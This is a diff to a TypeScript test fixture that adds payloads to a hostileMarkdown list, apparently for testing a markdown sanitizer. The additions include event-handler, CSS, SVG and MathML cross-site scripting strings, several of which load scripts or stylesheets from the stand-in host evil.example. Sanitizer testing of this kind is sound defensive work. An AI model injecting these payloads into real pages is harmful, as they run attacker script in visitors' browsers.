@@ -45,6 +45,60 @@ const schemes = [
   '?next=javascript:alert(1)',
 ] as const;
 
+/** Each asks for code in a way of its own, without a tag that the renderer could know by name. */
+const events =
+  'click dblclick auxclick contextmenu mousedown mouseup mouseover mouseenter mousemove mouseleave pointerdown pointerover pointerenter touchstart wheel scroll focus focusin blur keydown keyup beforeinput input change invalid submit reset select copy cut paste dragstart drop toggle beforetoggle load error abort loadstart canplay animationstart transitionend begin repeat end hashchange message pageshow unload cuechange securitypolicyviolation'.split(
+    ' ',
+  );
+
+const styles = [
+  'position:fixed;inset:0;z-index:99999;background:red',
+  'background:url(//evil.example/1.png)',
+  'background:url("javascript:alert(1)")',
+  'background:image-set("//evil.example/2.png" 1x)',
+  'list-style:url(//evil.example/3.png)',
+  'border-image:url(//evil.example/4.png)',
+  'content:url(//evil.example/5.png)',
+  'cursor:url(//evil.example/6.cur),auto',
+  'mask:url(//evil.example/7.svg#m)',
+  'filter:url(//evil.example/8.svg#f)',
+  'clip-path:url(//evil.example/9.svg#c)',
+  'shape-outside:url(//evil.example/10.png)',
+  '-moz-binding:url(//evil.example/11.xml#b)',
+  'behavior:url(//evil.example/12.htc)',
+  'width:expression(alert(1))',
+  'animation:spin 1s;font-family:"</style><script>alert(1)</script>"',
+  'display:none',
+  'margin-top:-100vh;height:200vh',
+  'visibility:hidden;pointer-events:none',
+  '@import "//evil.example/13.css"',
+] as const;
+
+const drawings = [
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script href="data:,alert(1)"/></svg>',
+  '<svg><script xlink:href="//evil.example/s.js"></script></svg>',
+  '<svg><image href="//evil.example/i.png" onload=alert(1)></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
+  '<svg><use xlink:href="//evil.example/u.svg#x"/></svg>',
+  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
+  '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
+  '<svg><animateTransform onbegin="alert(1)"/></svg>',
+  '<svg><animateMotion onend="alert(1)"/></svg>',
+  '<svg><feImage href="//evil.example/f.svg"/></svg>',
+  '<svg><style>@import "//evil.example/x.css"</style></svg>',
+  '<svg><style>*{position:fixed}</style></svg>',
+  '<svg><title><img src=x onerror=alert(1)></title></svg>',
+  '<svg><desc><iframe onload=alert(1)></desc></svg>',
+  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
+  '<svg xmlns="http://www.w3.org/2000/svg"><metadata><script>alert(1)</script></metadata></svg>',
+  '<svg><switch><foreignObject requiredExtensions="x"><body onload=alert(1)></foreignObject></switch></svg>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+] as const;
+
 const tags = [
   '<script>alert(1)</script>',
   '<script src=//evil.example></script>',
@@ -133,7 +187,21 @@ const shapes = [
 ] as const;
 
 export const hostileMarkdown: readonly string[] = [
-  ...schemes.flatMap((url) => [`[x](${url})`, `[x](<${url}>)`, `![x](${url})`, `<${url}>`, url]),
+  ...schemes.flatMap((url) => [
+    `[x](${url})`,
+    `[x](<${url}>)`,
+    `![x](${url})`,
+    `<${url}>`,
+    url,
+    `[x]\n\n[x]: ${url}`,
+    `<a href="${url}">x</a>`,
+  ]),
+  ...events.flatMap((event) => [
+    `<b on${event}=alert(1) tabindex=0>x</b>`,
+    `<svg on${event}="alert(1)" tabindex="0"><circle r="9"/></svg>`,
+  ]),
+  ...styles.flatMap((style) => [`<p style='${style}'>x</p>`, `<style>.x, * { ${style} }</style>`]),
+  ...drawings,
   ...tags,
   ...shapes,
 ];
